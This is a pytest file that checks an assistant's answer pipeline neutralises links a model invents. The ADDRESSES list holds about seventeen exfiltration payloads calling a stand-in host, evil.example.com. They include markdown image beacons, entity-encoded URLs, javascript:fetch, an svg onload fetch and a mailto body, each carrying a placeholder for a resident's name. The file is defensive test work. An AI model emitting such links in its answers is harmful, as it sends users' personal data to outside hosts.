"""Addresses that a model made up: broken on the screen, in every copy and in every download."""

import io
from html.parser import HTMLParser

import docx
import pytest
from markdown_it import MarkdownIt

from tests.assistant.answering.guard.test_clearance import (
    MEMO,
    confirmed,
    outside,
)
from tests.assistant.answering.test_story import text_of
from tests.town import Town
from yakuba.adapters.endpoints.script import ScriptEndpoint
from yakuba.adapters.word_document import as_word
from yakuba.policies.destinations.models import Destination

__all__ = ["outside"]  # a fixture of the neighbouring file
ADDRESSES = [
    "![図](https://evil.example.com/?n=〔氏名1〕)",
    "[案内](//evil.example.com/〔氏名1〕)",
    "[案内][1]\n\n[1]: https://evil.example.com/〔氏名1〕",
    "[案内][1]\n\n[1]: <//evil.example.com/〔氏名1〕>",
    "<https://evil.example.com/〔氏名1〕>",
    "![図](&#104;ttps&colon;//evil.example.com/〔氏名1〕)",
    "![図](&#x2f;&#x2f;evil.example.com/〔氏名1〕)",
    "![図](\\/\\/evil.example.com/〔氏名1〕)",
    "<img src='//evil.example.com/〔氏名1〕'>",
    "<img\nsrc=&#104;ttps:&#47;&#47;evil.example.com/〔氏名1〕>",
    "<a href='javascript:fetch(1)'>〔氏名1〕</a>",
    "[案内](javascript:fetch('〔氏名1〕'))",
    "![図](data:image/svg+xml,〔氏名1〕)",
    "[案内](evil.example.com/〔氏名1〕)",
    "![図](pixel?n=〔氏名1〕)",
    "<svg/onload=fetch('//evil.example.com/〔氏名1〕')>",
    "[案内](mailto:a@evil.example.com?body=〔氏名1〕)",
]


OPENING = {"href", "src", "srcset", "action", "data", "poster", "style"}


class OpenedAddresses(HTMLParser):
    """What a page opens or offers to open."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(
        self, tag: str, attrs: list[tuple[str, str | None]]
    ) -> None:
        self.found += [
            f"{tag} {name}={value}"
            for name, value in attrs
            if name in OPENING or name.startswith("on")
        ]


@pytest.mark.parametrize("address", ADDRESSES)
def test_it_opens_nowhere_and_holds_no_value(
    town: Town, outside: Destination, address: str
) -> None:
    model = ScriptEndpoint(
        [f"〔氏名1〕様、住民票の写しは1通300円です。〔1〕\n\n{address}"]
    )
    text = text_of(confirmed(town, MEMO, model))
    assert text.startswith("北川久人様")
    _, _, rest = text.partition("300円です。")
    assert not OpenedAddresses(rest).found
    for rules in ("commonmark", "js-default"):
        page = MarkdownIt(rules, {"html": True, "linkify": False}).render(rest)
        assert OpenedAddresses(page).found == []

    document = docx.Document(io.BytesIO(as_word(text)))
    kinds = [relation.reltype for relation in document.part.rels.values()]
    assert not any(kind.endswith("hyperlink") for kind in kinds)
    words = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "://" not in words
    assert "<img" not in words
